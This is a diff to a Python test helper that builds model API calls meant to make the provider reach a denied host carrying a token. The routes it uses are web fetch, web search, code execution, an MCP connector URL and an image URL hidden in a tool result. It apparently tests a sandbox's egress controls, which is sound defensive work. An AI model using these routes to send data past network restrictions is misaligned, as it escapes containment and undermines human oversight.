@@ -2,13 +2,56 @@
 
 import json
 
-from door_calls import authority, own_grant, passed, send
+from door_calls import Refusal, authority, own_grant, passed, send
 
-CALL = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 16, "messages": [{"role": "user", "content": "[[scn:stray]] Hello."}]}).encode()
+HELLO = {"type": "text", "text": "[[scn:stray]] Hello."}
+# What the model would be asked to reach, and what would be told there.
+OUTSIDE = "http://{denied}/?told={token}"
 
 
-def model_call(headers):
-    return passed(send("POST /model/v1/messages HTTP/1.1", [*headers, ("Content-Type", "application/json"), ("Content-Length", len(CALL))], CALL))
+def model_call(headers, content=(), **more):
+    call = {"model": "claude-sonnet-4-5", "max_tokens": 16, "messages": [{"role": "user", "content": [HELLO, *content]}], **more}
+    body = json.dumps(call).encode()
+    return passed(send("POST /model/v1/messages HTTP/1.1", [*headers, ("Content-Type", "application/json"), ("Content-Length", len(body))], body))
+
+
+def call_of_provider(content=(), **more):
+    """A call with the agent's own grant that has the provider of the model API reach outside."""
+    try:
+        return model_call(authority(own_grant()), content, **more)
+    except Refusal as refusal:
+        # The model API has one word for every request that it does not take.
+        if refusal.word == "invalid_request_error" and "model.provider_tools" in str(refusal):
+            raise Refusal("provider_tools", str(refusal)) from None
+        raise
+
+
+def model_that_fetches():
+    return call_of_provider(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}])
+
+
+def model_that_searches():
+    return call_of_provider(tools=[{"type": "web_search_20250305", "name": "web_search"}])
+
+
+def model_that_executes():
+    return call_of_provider(tools=[{"type": "code_execution_20250825", "name": "code_execution"}])
+
+
+def model_with_unknown_tool():
+    return call_of_provider(tools=[{"type": "reach_20991231", "name": "reach"}])
+
+
+def model_with_connector(denied, token):
+    server = {"type": "url", "name": "outside", "url": OUTSIDE.format(denied=denied, token=token)}
+    return call_of_provider(mcp_servers=[server])
+
+
+def model_that_shows(denied, token):
+    """An image that lies deep in a tool's result, and is fetched from where the agent says."""
+    source = {"type": "url", "url": OUTSIDE.format(denied=denied, token=token)}
+    image = {"type": "image", "source": source}
+    return call_of_provider([{"type": "tool_result", "tool_use_id": "toolu_1", "content": [image]}])
 
 
 def model_without_grant():
